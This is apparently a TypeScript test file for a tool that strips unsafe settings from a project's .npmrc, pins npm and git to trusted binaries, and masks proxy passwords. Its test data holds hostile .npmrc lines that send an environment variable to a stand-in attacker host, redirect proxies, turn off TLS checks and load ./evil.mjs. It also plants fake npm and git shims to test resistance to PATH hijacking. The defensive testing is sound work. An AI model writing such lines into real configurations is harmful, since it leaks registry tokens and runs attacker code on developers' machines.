import assert from 'node:assert/strict';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { delimiter, dirname, join } from 'node:path';
import { test } from 'node:test';
import { createTempFolder } from '@marteau/testkit';
import { passwordsIn } from './npm-settings.ts';
import { npmTools } from './npm-tools.ts';
import { ownLines, reduceNpmrc } from './own-npmrc.ts';

const variable = '$' + '{HTTPS_PROXY}';

test('of a project’s .npmrc npm gets registries and who the project is there, and nothing of the environment', () => {
  const kept = [
    'registry=https://npm.example.com/',
    '@you:registry = https://npm.example.com/you/',
    '//npm.example.com/:_authToken=npm_0123',
  ];
  const dropped = [
    `registry=http://evil.example/${variable}/`,
    `//evil.example/:_authToken=${variable}`,
    'https-proxy=http://evil.example',
    'proxy=http://evil.example',
    'cafile=./evil.pem',
    'strict-ssl=false',
    'git=./evil',
    'cache=/tmp/other',
    'script-shell=./evil',
    'ignore-scripts=false',
    'node-options=--import=./evil.mjs',
    'prefix=/',
    '; registry=x',
    '[registry=]',
  ];
  assert.equal(ownLines([...kept, ...dropped].join('\r\n')), kept.map((line) => `${line}\n`).join(''));
});

test('it stands there while npm runs, and is as it was afterwards', async () => {
  await using folder = await createTempFolder();
  const file = join(folder.path, '.npmrc');
  const text = 'git=./evil\nregistry=https://npm.example.com/\n';
  await writeFile(file, text);
  {
    await using _ = await reduceNpmrc(folder.path);
    assert.equal(await readFile(file, 'utf8'), 'registry=https://npm.example.com/\n');
  }
  assert.equal(await readFile(file, 'utf8'), text);
});

test('npm and git are the node’s own, whatever a project has by these names', async () => {
  await using folder = await createTempFolder();
  const own = join(folder.path, 'node_modules/.bin');
  await mkdir(own, { recursive: true });
  for (const name of ['npm', 'git', 'node'])
    await writeFile(join(own, name), '#!/bin/sh\necho evil\n', { mode: 0o755 });
  const elsewhere = await createTempFolder();
  await using _ = elsewhere;
  await symlink('/bin/true', join(elsewhere.path, 'git'));
  const path = [own, '.', 'node_modules/.bin', elsewhere.path, process.env.PATH].join(delimiter);
  const tools = npmTools(folder.path, path);
  assert.ok(!tools.path.includes(folder.path));
  assert.ok(tools.path.startsWith(dirname(process.execPath) + delimiter));
  assert.ok(!tools.npm.startsWith(folder.path));
  assert.equal(tools.git, join(elsewhere.path, 'git'));
});

test('passwords of proxies are found to be masked', () => {
  const settings = {
    HTTPS_PROXY: 'http://user:proxy%20pw@proxy.example:3128',
    http_proxy: 'user:other-pw@proxy.example',
    npm_config_registry: 'https://npm.example.com/',
    npm_config_noproxy: 'a:b',
    npm_config_proxy: 'http://u:pw@x',
  };
  assert.deepEqual(passwordsIn(settings), ['proxy%20pw', 'proxy pw', 'other-pw', 'other-pw']);
});
